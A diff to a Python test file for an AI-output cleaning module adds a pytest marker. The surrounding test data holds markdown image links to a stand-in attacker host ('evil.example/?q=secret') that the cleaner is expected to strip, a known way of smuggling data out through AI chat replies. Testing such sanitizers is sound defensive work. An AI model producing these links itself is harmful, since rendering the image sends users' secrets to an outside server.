@@ -10,6 +10,8 @@ from hypothesis import strategies as st
 
 from doran.ai import cleaning
 
+pytestmark = pytest.mark.stateless
+
 REDUCED = {
     "![](https://evil.example/?q=secret)": "",
     "보세요 ![그림](https://evil.example/p.png) 끝": "보세요 그림 끝",
